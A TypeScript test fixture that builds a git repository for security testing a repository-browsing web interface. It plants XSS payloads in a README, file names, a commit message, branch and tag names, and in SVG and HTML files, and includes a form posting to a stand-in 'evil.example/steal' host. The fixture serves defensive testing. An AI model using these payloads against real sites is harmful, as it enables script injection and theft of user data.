/**
 * A repository made to attack the repository pages, pushed with the real git: HTML and script in
 * a README, in file names, in a commit message, in ref names; an SVG and an HTML file that run
 * script if served as they are; a binary, a large file, an LFS pointer, a symlink; a history
 * longer than a page of commits (made with git fast-import), a commit whose diff is over the
 * per-file limit, and entries whose states differ (`@SEQ`).
 */
import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdir, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { commitFile, gitOk, workRepo } from './gitClient.js';

export const HOSTILE_README = `# Hostile README

Plain text, **bold**, and a [relative link](docs/guide.md), an image: ![logo](img/logo.png).

<script>window.__pwned = 'readme script'</script>
<img src="x" onerror="window.__pwned = 'readme onerror'">
<svg onload="window.__pwned = 'readme svg'"><script>window.__pwned = 'svg script'</script></svg>
<iframe src="javascript:window.__pwned = 'iframe'"></iframe>
<style>body { display: none }</style>
<a href="javascript:window.__pwned = 'html link'">html javascript link</a>
[markdown javascript link](javascript:window.__pwned='md link')
<a href="data:text/html,<script>alert(1)</script>">data link</a>
<p onclick="window.__pwned = 'onclick'">click me</p>
<form action="https://evil.example/steal"><input name="q"></form>
`;

/** No `/` in it: git would read one as a directory. */
export const HTML_FILE_NAME = `<img src=x onerror="window.__pwned='file name'">.txt`;
export const HTML_COMMIT_MESSAGE = 'fix <img src=x onerror="window.__pwned = \'message\'"> & <b>bold</b>';
export const HTML_BRANCH = '<em>x</em>';
export const HTML_TAG = 'x"><svg/onload=alert(1)>';
export const EVIL_SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>document.documentElement.setAttribute('data-pwned', 'svg')</script><rect width="10" height="10"/></svg>`;
export const EVIL_HTML = `<!doctype html><html><body><script>document.body.setAttribute('data-pwned', 'html')</script>raw html</body></html>`;
/** The content behind lfs.bin's pointer: uploaded through the LFS API before the push that names it. */
const LFS_CONTENT = Buffer.from('the bytes git-lfs keeps out of git\n');
export const LFS_OID = createHash('sha256').update(LFS_CONTENT).digest('hex');
export const LFS_POINTER = `version https://git-lfs.github.com/spec/v1\noid sha256:${LFS_OID}\nsize ${LFS_CONTENT.length}\n`;

interface LfsAction {
  readonly href: string;
  readonly header?: Record<string, string>;
}

/** Uploads LFS_CONTENT as git-lfs would (batch, PUT, verify): a push naming a missing object is refused. */
async function uploadLfsContent(pushUrl: string): Promise<void> {
  const url = new URL(pushUrl);
  const authorization = `Basic ${Buffer.from(`${decodeURIComponent(url.username)}:${decodeURIComponent(url.password)}`).toString('base64')}`;
  url.username = '';
  url.password = '';
  const lfsJson = 'application/vnd.git-lfs+json';
  const batch = await fetch(`${url.href}/info/lfs/objects/batch`, {
    method: 'POST',
    headers: { authorization, accept: lfsJson, 'content-type': lfsJson },
    body: JSON.stringify({
      operation: 'upload',
      transfers: ['basic'],
      objects: [{ oid: LFS_OID, size: LFS_CONTENT.length }],
    }),
  });
  if (!batch.ok) throw new Error(`LFS batch answered ${batch.status}: ${await batch.text()}`);
  const answer = (await batch.json()) as {
    objects: { actions?: { upload?: LfsAction; verify?: LfsAction } }[];
  };
  const actions = answer.objects[0]?.actions;
  if (actions?.upload) {
    const put = await fetch(actions.upload.href, {
      method: 'PUT',
      headers: { ...actions.upload.header },
      body: LFS_CONTENT,
    });
    if (!put.ok) throw new Error(`LFS upload answered ${put.status}: ${await put.text()}`);
  }
  if (actions?.verify) {
    const verify = await fetch(actions.verify.href, {
      method: 'POST',
      headers: { ...actions.verify.header, accept: lfsJson, 'content-type': lfsJson },
      body: JSON.stringify({ oid: LFS_OID, size: LFS_CONTENT.length }),
    });
    if (!verify.ok) throw new Error(`LFS verify answered ${verify.status}: ${await verify.text()}`);
  }
}
/** Commits appended after the first, so that the commit list has three pages (50 a page). */
export const HISTORY_COMMITS = 120;
/** Lines of the file whose diff is over the per-file limit (2,000 lines). */
export const BIG_DIFF_LINES = 3_000;

/** The smallest valid PNG: one transparent pixel. */
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
  'base64',
);

export interface BrowseFixture {
  readonly work: string;
  /** main after the first push (entry 1): page.html is there. */
  readonly first: string;
  /** The commit whose message is HTML. */
  readonly htmlMessage: string;
  /** The commit whose diff is too large for one file. */
  readonly bigDiff: string;
  readonly main: string;
}

export async function buildBrowseFixture(home: string, pushUrl: string): Promise<BrowseFixture> {
  const work = await workRepo(home, 0, 'browse');
  const put = async (name: string, content: string | Buffer) => {
    await mkdir(join(work, name, '..'), { recursive: true });
    await writeFile(join(work, name), content);
  };
  await put('README.md', HOSTILE_README);
  await put('docs/guide.md', '# Guide\n\nSee the [README](../README.md).\n');
  await put('img/logo.png', PNG);
  await put(
    'src/a/b/code.ts',
    'export function greet(name: string): string {\n  return "hello " + name;\n}\n',
  );
  await put('evil.svg', EVIL_SVG);
  await put('page.html', EVIL_HTML);
  await put(HTML_FILE_NAME, 'a file whose name is HTML\n');
  await put('bin.dat', Buffer.from([0, 1, 2, 3, 0, 255, 254]));
  await put('big.txt', `${'x'.repeat(99)}\n`.repeat(12_000));
  await put('lfs.bin', LFS_POINTER);
  await symlink('README.md', join(work, 'link'));
  await gitOk(['add', '-A'], { cwd: work, home });
  await gitOk(['commit', '-q', '-m', 'first'], { cwd: work, home });
  const first = (await gitOk(['rev-parse', 'HEAD'], { cwd: work, home })).trim();
  await uploadLfsContent(pushUrl);
  await gitOk(['push', '-q', pushUrl, 'main'], { cwd: work, home });

  await fastImportHistory(work, home, first, HISTORY_COMMITS);
  await gitOk(['reset', '-q', '--hard', 'main'], { cwd: work, home });
  await gitOk(['rm', '-q', 'page.html'], { cwd: work, home });
  await gitOk(['commit', '-q', '-m', HTML_COMMIT_MESSAGE], { cwd: work, home });
  const htmlMessage = (await gitOk(['rev-parse', 'HEAD'], { cwd: work, home })).trim();
  const lines = Array.from({ length: BIG_DIFF_LINES }, (_, i) => `line ${i}`).join('\n');
  const bigDiff = await commitFile(work, home, 'generated.txt', `${lines}\n`, 'add a generated file');
  await gitOk(['push', '-q', pushUrl, 'main'], { cwd: work, home });
  await gitOk(['branch', HTML_BRANCH, first], { cwd: work, home });
  await gitOk(['tag', HTML_TAG, htmlMessage], { cwd: work, home });
  await gitOk(['tag', '-a', '-m', 'release one', 'v1', first], { cwd: work, home });
  await gitOk(['push', '-q', pushUrl, HTML_BRANCH, HTML_TAG, 'v1'], { cwd: work, home });
  return { work, first, htmlMessage, bigDiff, main: bigDiff };
}

/** `count` commits on main after `from`, each changing history.txt, through git fast-import. */
async function fastImportHistory(work: string, home: string, from: string, count: number): Promise<void> {
  let stream = '';
  for (let i = 1; i <= count; i++) {
    const time = Math.floor(Date.now() / 1000) + i;
    const content = `entry ${i}\n`;
    stream += `commit refs/heads/main\nauthor Test User <test@example.com> ${time} +0000\ncommitter Test User <test@example.com> ${time} +0000\ndata ${`history ${i}\n`.length}\nhistory ${i}\n${i === 1 ? `from ${from}\n` : ''}M 100644 inline history.txt\ndata ${content.length}\n${content}\n`;
  }
  await new Promise<void>((resolve, reject) => {
    const child = spawn('git', ['fast-import', '--quiet', '--force'], {
      cwd: work,
      env: { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: home, GIT_CONFIG_NOSYSTEM: '1' },
      stdio: ['pipe', 'ignore', 'pipe'],
    });
    let stderr = '';
    child.stderr.on('data', (d: Buffer) => {
      stderr += d.toString();
    });
    child.once('close', (code) => (code === 0 ? resolve() : reject(new Error(`fast-import: ${stderr}`))));
    child.stdin.end(stream);
  });
}
